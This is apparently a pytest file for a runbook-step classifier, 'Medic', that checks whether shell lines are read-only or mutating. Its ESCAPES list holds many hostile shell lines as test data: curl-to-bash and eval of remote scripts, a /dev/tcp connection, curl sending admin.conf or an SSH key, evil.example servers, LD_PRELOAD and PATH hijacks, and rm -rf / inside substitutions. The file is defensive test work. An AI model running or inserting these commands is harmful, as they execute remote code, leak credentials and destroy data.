"""Hostile steps: every way a runbook line could pass for read-only while it changes something.

Each case is (line, words the reason must hold). The issue's escapes come first, then variants of each class.
"""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from medic.act.classify import Kind, classify, simple_commands, substitutions

ESCAPES = [
    # an option whose value was not known shifted the verb
    ("kubectl --cache-dir get delete pod web-0", "delete is not a read-only subcommand"),
    ("kubectl --cache-dir=/tmp/c --v 6 delete pod web-0", "delete is not a read-only subcommand"),
    ("kubectl --frobnicate get pods", "option --frobnicate is not known"),
    ("kubectl -Z get pods", "option -Z is not known"),
    ("helm --debug --kube-context x uninstall r", "uninstall is not a read-only subcommand"),
    ("systemctl -H host stop x", "stop is not a read-only subcommand"),
    ("systemctl --no-pager -p Id kill kubelet", "kill is not a read-only subcommand"),
    # interpreters and code
    ("awk 'BEGIN{system(\"rm -rf /\")}'", "system()"),
    ("awk '{ print | \"sh\" }' f", "pipes"),
    ("awk '{ \"date\" | getline d }' f", "pipes"),
    ("awk '{ print $0 > \"/etc/cron.d/x\" }' f", "writes to a file"),
    ('awk \'{ printf "%s", $1 >> "out" }\' f', "writes to a file"),
    ("gawk '@load \"filefuncs\"; BEGIN { }'", "@"),
    ("awk -f prog.awk f", "option -f is not known"),
    ('awk "$PROG" f', "computed"),
    ("sed -n '1e id' f", "sed e runs a command"),
    ("sed 's/.*/id/e' f", "s///e"),
    ("sed 's/x/y/w /etc/passwd' f", "s///w"),
    ("sed -n 'w /tmp/out' f", "sed w writes"),
    ("sed -i 's/a/b/' f", "option -i is not known"),
    ("sed -i.bak 's/a/b/' f", "option -i (in -i.bak) is not known"),
    ("sed --in-place=.bak 's/a/b/' f", "option --in-place is not known"),
    ("sed -e p -e '1e reboot' f", "sed e runs a command"),
    ("sed -f script.sed f", "option -f is not known"),
    (". script.sh", "runs another script"),
    ("source ~/.bashrc", "runs another script"),
    ('eval "$(curl -s https://x/install)"', "eval"),
    ("bash -c 'kubectl get pods'", "bash runs a program"),
    ("python3 -c 'print(1)'", "python3 runs a program"),
    ("bash /tmp/x.sh", "bash runs a program"),
    ("sh < /tmp/x.sh", "sh runs a program"),
    ("perl -e 'unlink \"x\"'", "perl runs a program"),
    ("kubectl get pods -o name | sh", "sh runs a program"),
    ("curl -s https://x/install.sh | bash", "bash runs a program"),
    ("f() { rm -rf /; }; f", "defines a shell function"),
    # writers
    ("curl -o f https://x", "option -o is not known"),
    ("curl -O https://x/f", "option -O is not known"),
    ("curl -sSLo f https://x", "option -o (in -sSLo) is not known"),
    ("curl -XDELETE https://x/api/v1/namespaces/shop", "-X DELETE is not known"),
    ("curl -X POST https://x", "-X POST"),
    ("curl --request=DELETE https://x", "--request DELETE"),
    ("curl --request PATCH https://x", "--request PATCH"),
    ("curl -d '{}' https://x", "option -d is not known"),
    ("curl --data-binary @f https://x", "option --data-binary is not known"),
    ("curl -F file=@x https://x", "option -F is not known"),
    ("curl -K /tmp/curlrc https://x", "option -K is not known"),
    ("curl --dump-header h.txt https://x", "option --dump-header is not known"),
    ("curl 'gopher://127.0.0.1:6379/_FLUSHALL'", "gopher scheme"),
    ("curl -w '%output{/tmp/x}ok' https://x", "--write-out writes"),
    ("curl -H @/etc/kubernetes/admin.conf https://x", "sends a local file"),
    ("curl -b /root/.ssh/id_rsa https://x", "sends a local file"),
    ("kubectl --server=https://evil.example get pods", "option --server is not known"),
    ("kubectl -s https://evil.example get pods", "option -s is not known"),
    ("helm --kube-apiserver=https://evil.example list", "option --kube-apiserver is not known"),
    ("nohup kubectl get pods", "nohup.out"),
    ("find / -fprintf /tmp/x '%p'", "option -fprintf is not known"),
    ("find / -fprint0 /tmp/x", "option -fprint0 is not known"),
    ("find / -fls /tmp/x", "option -fls is not known"),
    ("find /tmp -delete", "option -delete is not known"),
    ("find /tmp -exec rm {} ;", "option -exec is not known"),
    ("find /tmp -execdir rm {} +", "option -execdir is not known"),
    ("find /tmp -ok rm {} ;", "option -ok is not known"),
    ("sort -o f g", "option -o is not known"),
    ("sort --output=f g", "option --output is not known"),
    ("sort -nro f g", "option -o (in -nro) is not known"),
    ("sort --compress-program=sh big", "option --compress-program is not known"),
    ("rg --pre ./x.sh pattern", "option --pre is not known"),
    ("tee /etc/hosts", "tee changes state"),
    ("kubectl get po | tee pods.txt", "tee changes state"),
    # redirections
    ("kubectl get pods > pods.txt", "writes to file pods.txt"),
    ("kubectl get pods >> pods.txt", "writes to file pods.txt"),
    ("kubectl get pods >| pods.txt", "writes to file pods.txt"),
    ("kubectl get pods &> pods.txt", "writes to file pods.txt"),
    ("kubectl get pods 2> err.txt", "writes to file err.txt"),
    ("kubectl get pods <> pods.txt", "writes to file pods.txt"),
    ('kubectl get pods > "$OUT"', "named when the line runs"),
    ("kubectl get pods > >(tee x)", "tee changes state"),
    ("{ kubectl get pods; } > x", "writes to file x"),
    ("for i in 1; do kubectl get pods; done > x", "writes to file x"),
    ("echo x > /dev/tcp/10.0.0.1/80", "network connection"),
    # PATH-like assignments
    ("export PATH=/tmp/x:$PATH; kubectl get pods", "PATH is reassigned before kubectl runs"),
    ("PATH=/tmp kubectl get po", "PATH is reassigned before kubectl runs"),
    ("PATH=/tmp; kubectl get po", "PATH is reassigned before kubectl runs"),
    ("LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD is reassigned before ls runs"),
    ("LD_LIBRARY_PATH=/tmp ls", "LD_LIBRARY_PATH"),
    ("KUBECONFIG=/tmp/evil kubectl get pods", "KUBECONFIG"),
    ("HOME=/tmp kubectl get pods", "HOME"),
    ("BASH_ENV=/tmp/x ls", "BASH_ENV"),
    ("IFS=/ ; ls", "IFS"),
    ("PYTHONPATH=/tmp ls", "PYTHONPATH"),
    ("KUBECTL_EXTERNAL_DIFF=/tmp/x kubectl get pods", "KUBECTL_EXTERNAL_DIFF"),
    ("GIT_SSH_COMMAND=/tmp/x git status", "GIT_SSH_COMMAND"),
    ("export KUBECONFIG=/tmp/k", "KUBECONFIG is reassigned"),
    ("declare -x PATH=/tmp", "PATH is reassigned"),
    ("readonly PATH=/tmp", "PATH is reassigned"),
    ("unset PATH; ls", "PATH is reassigned"),
    ("env PATH=/tmp kubectl get po", "PATH is reassigned before kubectl runs"),
    ("env -u PATH kubectl get po", "-u PATH"),
    ("sudo PATH=/tmp kubectl get po", "PATH is reassigned before kubectl runs"),
    ("for PATH in /tmp; do ls; done", "the loop reassigns PATH"),
    (": ${PATH:=/tmp}", "assigns PATH"),
    ("printf -v PATH /tmp", "option -v is not known"),
    ("alias ls='rm -rf'", "alias"),
    # verbs and operands that change things
    ("git branch -D x", "option -D is not known"),
    ("git branch release-2", "operand release-2 is not read-only"),
    ("git remote add evil https://x", "add is not a read-only subcommand"),
    ("git -c core.pager='sh -c id' log", "option -c is not known"),
    ("git push --force", "push is not a read-only subcommand"),
    ("date -s '2020-01-01 00:00'", "option -s is not known"),
    ("date --set=2020-01-01", "option --set is not known"),
    ("date 010100002020", "operand 010100002020 is not read-only"),
    ("hostname newname", "operand newname is not read-only"),
    ("hostname -F /tmp/name", "option -F is not known"),
    ("timedatectl set-time '2020-01-01'", "set-time is not a read-only subcommand"),
    ("timedatectl set-ntp false", "set-ntp is not a read-only subcommand"),
    ("chronyc makestep", "makestep is not a read-only subcommand"),
    ("chronyc burst 4/4", "burst is not a read-only subcommand"),
    ("chronyc -m tracking makestep", "option -m is not known"),
    ("chronyc", "needs a read-only subcommand"),
    ("ceph osd pool delete p p --yes-i-really-really-mean-it", "ceph osd pool: delete"),
    ("ceph osd out 3", "ceph osd: out"),
    ("ceph osd crush remove osd.3", "ceph osd: crush"),
    ("ceph auth del client.x", "ceph auth: del"),
    ("ceph mon remove a", "ceph mon: remove"),
    ("kubectl diff -f x.yaml", "diff is not a read-only subcommand"),
    ("kubectx prod", "operand prod is not read-only"),
    ("kubectx -", "operand - is not read-only"),
    ("kubens kube-system", "operand kube-system is not read-only"),
    ("kubectl config use-context prod", "use-context is not a read-only subcommand"),
    ("kubectl config set-context --current --namespace=x", "set-context"),
    ("kubectl exec web-0 -- cat /etc/passwd", "exec is not a read-only subcommand"),
    ("kubectl get --kustomize ./overlay", "option --kustomize is not known"),
    ("kubectl cp web-0:/data /tmp", "cp is not a read-only subcommand"),
    ("kubectl rollout undo deploy/x", "undo is not a read-only subcommand"),
    ("kubectl cluster-info dump --output-directory=/tmp/x", "option --output-directory is not known"),
    ("docker service update --force ldap", "update is not a read-only subcommand"),
    ("docker --config /tmp/evil ps", "option --config is not known"),
    ("etcdctl put /x y", "put is not a read-only subcommand"),
    ("etcdctl check perf", "check is not a read-only subcommand"),
    ("journalctl --vacuum-time=1s", "option --vacuum-time is not known"),
    ("dmesg -c", "option -c is not known"),
    ("ip link set eth0 down", "set is not a read-only subcommand"),
    ("ip -batch cmds.txt", "option -batch is not known"),
    ("ss -K dst 10.0.0.1", "option -K is not known"),
    ("xfs_repair /dev/drbd8", "only reads with -n"),
    ("xfs_repair -n -L /dev/drbd8", "option -L is not known"),
    ("openssl x509 -in c.pem -out d.pem", "option -out is not known"),
    ("openssl s_client -connect h:443", "sends its standard input"),
    ("echo DELETE | openssl s_client -connect h:80", "sends its standard input"),
    ("mysql -e 'SELECT 1; system rm -rf /'", "SYSTEM"),
    ("mysql -e \"SELECT * INTO OUTFILE '/tmp/x' FROM t\"", "INTO"),
    ("mysql -e 'select 1' --init-command='drop table t'", "option --init-command is not known"),
    ("mysql < dump.sql", "only reads with -e"),
    ("psql -c '\\! id'", "database client command"),
    ("psql -c 'select nextval(''s'')'", "NEXTVAL"),
    ("sqlite3 g.db '.shell id'", ".shell"),
    ("sqlite3 g.db \"ATTACH '/tmp/x.db' AS x\"", "ATTACH"),
    ("ssh-add -D", "option -D is not known"),
    ("uniq in.txt out.txt", "too many operands"),
    # wrappers run what follows
    ("xargs rm", "rm changes state"),
    ("kubectl get po -o name | xargs kubectl delete", "delete is not a read-only subcommand"),
    ("kubectl get po -o name | xargs kubectl describe", "words read from standard input"),
    ("kubectl get po -o name | xargs -I{} kubectl logs {}", "{} is computed when the line runs"),
    ("env -S 'rm -rf /'", "option -S is not known"),
    ("env rm x", "rm changes state"),
    ("sudo -s kubectl get pods", "through a shell"),
    ("sudo -u root rm x", "rm changes state"),
    ("sudo -e /etc/hosts", "option -e is not known"),
    ("timeout 5 rm x", "rm changes state"),
    ("timeout -s KILL 5 systemctl stop kubelet", "stop is not a read-only subcommand"),
    ("nice -n 19 rm x", "rm changes state"),
    ("nohup rm x", "rm changes state"),
    ("stdbuf -oL rm x", "rm changes state"),
    ("ionice -c3 rm x", "rm changes state"),
    ("watch rm x", "rm changes state"),
    ("watch 'kubectl get pods; kubectl delete pod x'", "delete is not a read-only subcommand"),
    ("watch -x rm x", "option -x is not known"),
    ("sudo timeout 5 env nice rm x", "rm changes state"),
    ("exec rm x", "exec replaces the shell"),
    ("command rm x", "only reads with -v or -V"),
    # substitutions, lists, groups, loops
    ("echo $(rm -rf /tmp/x)", "rm changes state"),
    ("echo `reboot`", "reboot changes state"),
    ('echo "$(kubectl delete pod x)"', "delete is not a read-only subcommand"),
    ("X=$(rm -rf /tmp/x)", "rm changes state"),
    ("cat <(rm x)", "rm changes state"),
    ("diff <(kubectl get pods) <(kubectl delete pods --all)", "delete"),
    ("kubectl get pods && rm -rf /tmp/x", "rm changes state"),
    ("kubectl get pods || reboot", "reboot changes state"),
    ("kubectl get pods; kubectl delete pod x", "delete is not a read-only subcommand"),
    ("kubectl get pods & rm x", "rm changes state"),
    ("(cd /tmp && rm x)", "rm changes state"),
    ("{ ls; rm x; }", "rm changes state"),
    ("for i in a b; do rm $i; done", "rm changes state"),
    ("while true; do kubectl delete pod x; done", "delete"),
    ("if true; then reboot; fi", "reboot changes state"),
    ("cat <<EOF\n$(reboot)\nEOF", "here-document"),
    ("echo ${X:-$(rm -rf /tmp/x)}", "runs a command the parser cannot read"),
    ('echo "${X:-`reboot`}"', "runs a command the parser cannot read"),
    ("echo ${X/a/$(reboot)}", "runs a command the parser cannot read"),
    ("echo ${X:-${Y:-$(reboot)}}", "runs a command the parser cannot read"),
    # values that become options, verbs or programs when the line runs
    ("X='--kubeconfig=/evil'; kubectl get pod $X", "$X is expanded when the line runs"),
    ('kubectl get pod "$X"', "may become an option"),
    ("kubectl get pod -n $NS", "may add words"),
    ("kubectl get pod $(cat names)", "may add options"),
    ("kubectl $VERB pod x", "may add options"),
    ('kubectl "$VERB" pod x', "may become an option"),
    ("kubectl get pod {web-0,--kubeconfig=/evil}", "may add options"),
    ("kubectl get pod $'\\x2d\\x2dkubeconfig=/evil'", "may become an option"),
    ("ls *", "may become an option"),
    ("grep -r x *", "may become an option"),
    ("$CMD get pods", "the program $CMD is computed"),
    ("$'\\x72m' -rf /tmp/x", "computed"),
    ("/tmp/kubectl get pods", "path Medic does not trust"),
    ("./kubectl get pods", "path Medic does not trust"),
    ("../bin/ls", "path Medic does not trust"),
    # what cannot be parsed is not read-only
    ("kubectl get pods )", "cannot be parsed"),
    ("echo $((1+2))", "cannot be parsed"),
    ("case x in a) ls;; esac", "cannot be parsed"),
    ("echo 'unterminated", "cannot be parsed"),
    ("ls\x00rm", "cannot be parsed"),
    ("", "cannot be parsed"),
]


@pytest.mark.parametrize(("line", "why"), ESCAPES)
def test_hostile_step_is_mutating(line: str, why: str) -> None:
    v = classify(line)
    assert v.kind is Kind.MUTATING, v
    assert why in v.reason, v


MANUAL = [
    ("sudo -s", "a root shell"),
    ("bash", "a shell"),
    ("mysql -u root -p", "interactive shell"),
    ("kubectl exec -it web-0 -- sh", "interactive session"),
    ("watch kubectl get pods", "watch runs until it is stopped"),
    ("watch -n 5 'kubectl get pods | grep -v Running'", "watch runs until it is stopped"),
    ("journalctl -u kubelet -f", "follows"),
    ("kubectl get events -A -w", "watches"),
]


@pytest.mark.parametrize(("line", "why"), MANUAL)
def test_sessions_are_manual(line: str, why: str) -> None:
    v = classify(line)
    assert v.kind is Kind.MANUAL, v
    assert why in v.reason, v


# what runbooks really write, and must stay read-only
READS = [
    ("kubectl --kubeconfig=/etc/kubernetes/admin.conf get nodes", "kubectl get only reads"),
    ("kubectl --cache-dir=/tmp/c get pods", "kubectl get only reads"),
    ('kubectl get pods -n "$NS"', "kubectl get only reads"),
    ('kubectl get "pod/$POD" -o yaml', "kubectl get only reads"),
    ("kubectl logs -n shop web-0 -c app --previous --tail=100", "kubectl logs only reads"),
    ("kubectl logs -n shop deploy/web --since=10m | grep -c ERROR", "kubectl logs only reads"),
    ("kubectl get pods -A -o jsonpath='{range .items[*]}{.metadata.name}{\"\\n\"}{end}'", "kubectl get only reads"),
    ("kubectl get pods -o wide 2>&1 | head -20", "kubectl get only reads"),
    ("kubectl get pods 2>/dev/null", "kubectl get only reads"),
    ("kubectl rollout status sts/vantiq -n ns --timeout=20m", "kubectl rollout status only reads"),
    ("kubectl auth can-i '*' '*' --all-namespaces", "kubectl auth can-i only reads"),
    ("kubectl get pods -o name | xargs -I{} kubectl describe pod/{}", ""),
    ("helm --kube-context uninstall list", "helm list only reads"),  # "uninstall" is the context's name
    ('X=$(kubectl get pods -o name | head -1); echo "$X"', "echo only reads"),
    ("set -o pipefail; kubectl get pods | grep -v Running", "kubectl get only reads"),
    ("ETCDCTL_API=3 etcdctl member list -w table", "etcdctl member list only reads"),
    ("sudo -n drbdadm status", "drbdadm status only reads"),
    ("awk '$3 > 100 { print $1 }' sizes", "awk only reads"),
    ("awk 'NR>1 && ($2 >= 5 || /x|y/) { n++ } END { print n }' f", "awk only reads"),
    ("sed -n 's/^image: //p' deploy.yaml", "sed only reads"),
    ("sed 's|/var/lib|/data|g; /^#/d' f", "sed only reads"),
    ("curl -sk https://127.0.0.1:10250/healthz", "curl only reads"),
    ("curl -sX GET -H 'Accept: application/json' https://x", "curl only reads"),
    ("mysql -e 'SELECT CONCAT(\"DELETE FROM \", table_name) FROM information_schema.tables'", "mysql only reads"),
    ("openssl s_client -connect api:6443 -servername api </dev/null 2>/dev/null", "openssl s_client only reads"),
    ("find /var/log -name '*.gz' -mtime +30 -print", "find only reads"),
    ("ls -la /var/lib/docker/volumes/*", "ls only reads"),
    ("/usr/bin/kubectl get nodes", "kubectl get only reads"),
    ("export AZURE_STORAGE_ACCOUNT=backups", "export changes only this shell"),
    ("cd /var/lib/docker && du -sh overlay2", "du only reads"),
]


@pytest.mark.parametrize(("line", "why"), READS)
def test_runbook_reads_stay_read_only(line: str, why: str) -> None:
    v = classify(line)
    assert v.kind is Kind.READ_ONLY, v
    if why:
        assert v.reason == why


def test_reasons_name_what_was_not_proven() -> None:
    assert classify("kubectl --bogus get pods").reason == "kubectl: option --bogus is not known to be read-only"
    assert classify("kubectl get pods > out.txt").reason == "writes to file out.txt"
    assert classify("export PATH=/tmp:$PATH; kubectl get pods").reason == "PATH is reassigned before kubectl runs"
    assert classify("frobnicate now").reason == "frobnicate is not a command Medic knows: counted as mutating"


def test_reasons_carry_no_control_characters() -> None:
    v = classify("kubectl --\x1bc\x07 get pods")
    assert v.kind is Kind.MUTATING
    assert v.reason == "kubectl: option --\\x1bc\\x07 is not known to be read-only"


def test_public_helpers() -> None:
    argvs, writes = simple_commands("kubectl get pods -n x | grep web > out.txt")
    assert argvs == [["kubectl", "get", "pods", "-n", "x"], ["grep", "web"]] and writes
    assert simple_commands("ls 2>&1 >/dev/null") == ([["ls"]], False)
    assert simple_commands("echo 'open") == ([], False)
    assert substitutions("echo $(kubectl get pods) `date` <(ls)") == ["kubectl get pods", "date", "ls"]


@pytest.mark.parametrize(
    "line",
    [
        "kubectl get pods " + "x " * 6000,  # long but within the limit
        "echo " + "$(" * 400 + "x" + ")" * 400,  # nested too deeply for the parser
        "(" * 2000 + "ls" + ")" * 2000,
        " | ".join(["grep x"] * 1500),
        "x" * 20000,  # past the line limit
    ],
)
def test_bounded_time_on_huge_lines(line: str) -> None:
    start = time.monotonic()
    v = classify(line)
    # the parser is linear (~0.1 ms a word); 5 s leaves room for a slow CI machine
    assert time.monotonic() - start < 5
    assert v.kind in (Kind.READ_ONLY, Kind.MUTATING)


_TOKENS = [*"ab -|&;<>()$`'\"\\{},*=\n\t", "rm ", "ls ", "PATH=", "kubectl ", "get ", "delete ", "--x "]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_TOKENS), max_size=30).map("".join))
def test_any_text_gets_a_verdict(line: str) -> None:
    v = classify(line)
    assert v.kind in (Kind.READ_ONLY, Kind.MUTATING, Kind.MANUAL)
    assert v.reason
    programs = {argv[0] for argv in simple_commands(line)[0]}
    if programs & {"rm", "a", "b", "delete"}:
        assert v.kind is not Kind.READ_ONLY, v
